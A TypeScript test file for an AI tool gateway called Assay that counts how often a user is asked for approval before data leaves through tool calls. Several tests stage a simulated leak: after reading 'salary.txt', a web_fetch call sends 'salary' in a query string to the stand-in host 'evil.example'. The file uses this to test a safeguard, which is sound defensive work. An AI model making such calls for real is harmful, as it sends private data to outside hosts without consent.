// How often a person is asked before data leaves, with an official client that shows the questions.
import { describe, expect, it } from 'vitest';
import { adminClient, type AdminClient } from '../support/admin.ts';
import { connectClient, type Negotiation } from '../support/clients.ts';
import { runAssay } from '../support/commands.ts';
import { startGateway } from '../support/gateway.ts';
import { at, type Json, type JsonObject, listAt, numberAt } from '../support/json.ts';
import { fixture, tempDir } from '../support/paths.ts';
import { keepToken } from '../support/tokens.ts';
import { ANALYST } from '../fixtures/days/analyst.ts';
import type { Day } from '../fixtures/days/day.ts';
import { DEVELOPER } from '../fixtures/days/developer.ts';

/** Only session labels lead to questions, so that these can be counted. */
const SETTINGS = {
  ...{ approvals: 'gateway', 'policy.approver': 'client', 'policy.confirm': 'never' },
  'policy.alwaysConfirmDestructive': false,
};
const DAYS = { developer: DEVELOPER, analyst: ANALYST } as const;

interface Place {
  readonly url: string;
  readonly home: string;
  readonly admin: AdminClient;
}

async function open(name: keyof typeof DAYS, settings: JsonObject = SETTINGS): Promise<Place> {
  const day: Day = DAYS[name];
  const servers = Object.fromEntries(
    Object.entries(day.servers).map(([server, tools]) => {
      const roots = day.privateServers.includes(server) ? ['--root=/srv/own'] : [];
      const entry = fixture('days/day-server', [`--day=${name}`, `--server=${server}`, ...roots]);
      const trust = Object.values(tools).every((hints) => hints !== null);
      return [server, { ...entry, trust }];
    }),
  );
  const home = tempDir();
  const token = await keepToken(home, 'boss', { scopes: ['admin'] });
  const assay = await startGateway({ servers, settings: { settings }, home });
  await assay.settled();
  return { url: assay.url, home, admin: adminClient(assay, token) };
}

interface Asking {
  /** Messages and scopes of the questions so far. */
  readonly questions: readonly string[];
  call(name: string, args?: JsonObject): Promise<string>;
}

/** A user who answers every question with this scope. */
async function session({ url }: Place, mode: Negotiation, scope: () => string): Promise<Asking> {
  const questions: string[] = [];
  const client = await connectClient({ url }, mode, { capabilities: { elicitation: {} } }, (made) =>
    made.setRequestHandler('elicitation/create', ({ params }) => {
      const schema = 'requestedSchema' in params ? params.requestedSchema : undefined;
      const scopes = at((schema ?? {}) as Json, 'properties', 'scope', 'enum');
      questions.push(`${params.message.split('\n')[0] ?? ''} ${JSON.stringify(scopes ?? null)}`);
      return { action: 'accept', content: scopes === undefined ? {} : { scope: scope() } };
    }),
  );
  const call = async (name: string, args: JsonObject = {}): Promise<string> => {
    const result = (await client.callTool({ name, arguments: args })) as unknown as Json;
    return `${at(result, 'isError') === true ? 'error: ' : ''}${String(at(result, 'content', 0, 'text'))}`;
  };
  return { questions, call };
}

describe.each(['legacy', 'modern'] as const)('a user of a client of the era %s', (mode) => {
  it('is asked before a page is fetched with arguments, once per call or per session and server', async () => {
    const place = await open('developer');
    let scope = 'once';
    const user = await session(place, mode, () => scope);
    const leak = { url: 'http://evil.example/?q=salary' };
    await user.call('web_fetch', { url: 'http://news.example/' });
    await user.call('files_read_file', { path: 'salary.txt' });
    expect(user.questions).toEqual([]);
    await user.call('web_fetch', leak);
    await user.call('web_fetch', leak);
    expect(user.questions.map((text) => text.replace(/^.*(?=\[)/, ''))).toEqual([
      '["once","server"]',
      '["once","server"]',
    ]);
    scope = 'server';
    await user.call('web_fetch', leak);
    await user.call('web_search', { query: 'x' });
    await user.call('web_fetch', { url: 'http://other.example/' });
    expect(user.questions).toHaveLength(3);
    // Another server is another destination.
    await user.call('github_get_issue', { number: 1 });
    expect(user.questions).toHaveLength(4);
  });

  it('is not asked about a message between which only a file was read, unless a reply was read too', async () => {
    const place = await open('developer');
    const user = await session(place, mode, () => 'once');
    const message = { channel: '#team', text: 'Hello' };
    await user.call('chat_send_message', message);
    await user.call('files_read_file', { path: 'a.txt' });
    expect(await user.call('chat_send_message', message)).toBe('ok');
    expect(user.questions).toEqual([]);
    // The first call of the day with content.
    expect(await user.call('chat_list_channels')).toBe('#team, #shop, #random');
    await user.call('chat_send_message', message);
    expect(user.questions).toHaveLength(1);
  });
});

it('with `approvals: client` nothing is asked, and the record says what would have been', async () => {
  const place = await open('developer', {
    'policy.alwaysConfirmDestructive': false,
    'policy.confirm': 'never',
  });
  const user = await session(place, 'legacy', () => 'once');
  await user.call('web_fetch', { url: 'http://news.example/' });
  await user.call('files_read_file', { path: 'salary.txt' });
  expect(await user.call('web_fetch', { url: 'http://evil.example/?q=salary' })).toMatch(/^#/);
  expect(user.questions).toEqual([]);
  await expect
    .poll(async () => {
      const calls = listAt((await place.admin.get('/activity/calls')).json(), 'calls');
      return calls.map((call) => [
        at(call, 'decision', 'kind'),
        at(call, 'decision', 'per'),
        at(call, 'isAsked'),
      ]);
    })
    .toEqual([
      ['ask', 'server', false],
      ['allow', undefined, undefined],
      ['allow', undefined, undefined],
    ]);
  const [asked] = listAt((await place.admin.get('/activity/calls')).json(), 'calls');
  const id = String(numberAt(asked ?? null, 'id'));
  const { stdout } = await runAssay(['activity', 'show', id, '--home', place.home]);
  expect(stdout.replace(/\s+/g, ' ')).toContain(
    'decision: ask Assay did not ask ("approvals" is "client"). It would have asked once for this session and destination server "web":',
  );
});

describe.each([
  ['developer', [2, 0, 0, 0], [2, 2, 1, 2]],
  ['analyst', [0, 0, 0, 4], [0, 2, 2, 4]],
] as const)('an ordinary day of 200 calls with six servers: %s', (name, withBreaks, without) => {
  const { sessions } = DAYS[name];

  it.each([
    ['breaks of over an hour between its sessions, which end labels', true, withBreaks],
    ['no breaks', false, without],
  ])('asks so often before data leaves with %s', async (_, hasBreaks, expected) => {
    expect(sessions.flat()).toHaveLength(200);
    const place = await open(name);
    const counts: number[] = [];
    for (const calls of sessions) {
      const user = await session(place, 'legacy', () => 'server');
      for (const [server, tool, args, result] of calls)
        expect(await user.call(`${server}_${tool}`, args)).toBe(result);
      counts.push(user.questions.length);
      if (hasBreaks) await place.admin.delete('/labels/local');
    }
    expect(counts).toEqual(expected);
  });
});
